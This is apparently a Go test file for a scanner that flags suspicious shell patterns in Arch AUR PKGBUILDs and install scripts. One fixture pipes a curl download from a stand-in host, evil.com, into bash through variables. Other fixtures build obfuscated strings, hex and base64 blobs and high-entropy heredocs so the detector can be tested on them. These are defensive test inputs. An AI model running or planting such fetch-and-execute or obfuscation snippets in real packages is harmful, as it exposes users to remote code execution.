// Copyright 2026 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-only

package analyzers

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"

	aurhelp "github.com/kraklabs/traur/internal/testing"
)

func TestShell_VarConcatExec(t *testing.T) {
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		"DL=curl\nEXE=bash\n$DL -s https://evil.com/x | $EXE\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-VAR-CONCAT-EXEC")
}

func TestShell_VarConcatCmd(t *testing.T) {
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		"RUNNER=python3\n$RUNNER -c 'print(1)'\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-VAR-CONCAT-CMD")
}

func TestShell_IndirectExec(t *testing.T) {
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		"CMD=bash\necho hi | $CMD\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-INDIRECT-EXEC")
}

func TestShell_CharByCharConstruction(t *testing.T) {
	line := "X=$(printf '\\x61')$(printf '\\x62')$(printf '\\x63')"
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), line+"\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-CHARBYCHAR-CONSTRUCT")
}

func TestShell_DataBlobHex(t *testing.T) {
	hex := strings.Repeat("ab", 70) // 140 hex chars, over the 129 threshold
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), "payload="+hex+"\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-DATA-BLOB-HEX")
}

func TestShell_DataBlobSHA512NotFlagged(t *testing.T) {
	sha512 := strings.Repeat("a", 128)
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), "sha512sums=('"+sha512+"')\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.NotContains(t, ids, "SA-DATA-BLOB-HEX")
}

func TestShell_DataBlobBase64(t *testing.T) {
	b64 := strings.Repeat("QUJD", 30) // 120 chars, over the 100 threshold
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), "payload=\""+b64+"\"\n")
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-DATA-BLOB-BASE64")
}

func TestShell_HighEntropyHeredoc(t *testing.T) {
	var sb strings.Builder
	sb.WriteString("cat <<'EOF' > payload.bin\n")
	// Pseudo-random-looking high-entropy filler, well over 200 bytes.
	line := "k3$v9!zQ#8mP@xL2&rT7^bN4*wY6(cF1)gH5-jD0_eS"
	for i := 0; i < 6; i++ {
		sb.WriteString(line)
		sb.WriteByte('\n')
	}
	sb.WriteString("EOF\n")
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), sb.String())
	ids := signalIDs(Shell{}.Analyze(ctx))
	assert.Contains(t, ids, "SA-HIGH-ENTROPY-HEREDOC")
}

func TestShell_LowEntropyHeredocNoSignal(t *testing.T) {
	var sb strings.Builder
	sb.WriteString("cat <<'EOF' > readme.txt\n")
	for i := 0; i < 10; i++ {
		sb.WriteString("this is a perfectly normal readme line about the package\n")
	}
	sb.WriteString("EOF\n")
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), sb.String())
	assert.NotContains(t, signalIDs(Shell{}.Analyze(ctx)), "SA-HIGH-ENTROPY-HEREDOC")
}

func TestShell_BinaryDownloadNoCompile(t *testing.T) {
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		"package() {\n  curl -s https://example.com/tool -o \"$pkgdir/usr/bin/tool\"\n  chmod +x \"$pkgdir/usr/bin/tool\"\n}\n")
	assert.Contains(t, signalIDs(Shell{}.Analyze(ctx)), "SA-BINARY-DOWNLOAD-NOCOMPILE")
}

func TestShell_BinaryDownloadWithBuildStepNoSignal(t *testing.T) {
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"),
		"build() {\n  make\n}\npackage() {\n  curl -s https://example.com/asset -o \"$pkgdir/usr/share/asset\"\n  chmod +x \"$pkgdir/usr/share/asset\"\n}\n")
	assert.NotContains(t, signalIDs(Shell{}.Analyze(ctx)), "SA-BINARY-DOWNLOAD-NOCOMPILE")
}

func TestShell_BenignPkgbuildNoSignals(t *testing.T) {
	ctx := aurhelp.WithPkgbuild(aurhelp.NewContext(t, "foo"), aurhelp.BenignPkgbuild("foo"))
	assert.Empty(t, Shell{}.Analyze(ctx))
}

func TestShell_InstallScriptGetsISPrefix(t *testing.T) {
	ctx := aurhelp.WithInstallScript(aurhelp.NewContext(t, "foo"),
		"CMD=bash\necho hi | $CMD\n")
	signals := Shell{}.Analyze(ctx)
	ids := signalIDs(signals)
	assert.Contains(t, ids, "IS-SA-INDIRECT-EXEC")
	for _, s := range signals {
		if s.ID == "IS-SA-INDIRECT-EXEC" {
			assert.Contains(t, s.Description, "(in install script)")
		}
	}
}

func TestShannonEntropy(t *testing.T) {
	assert.InDelta(t, 0.0, shannonEntropy("aaaaaaaa"), 0.0001)
	assert.Greater(t, shannonEntropy("k3$v9!zQ#8mP@xL2&rT7^bN"), 3.0)
}
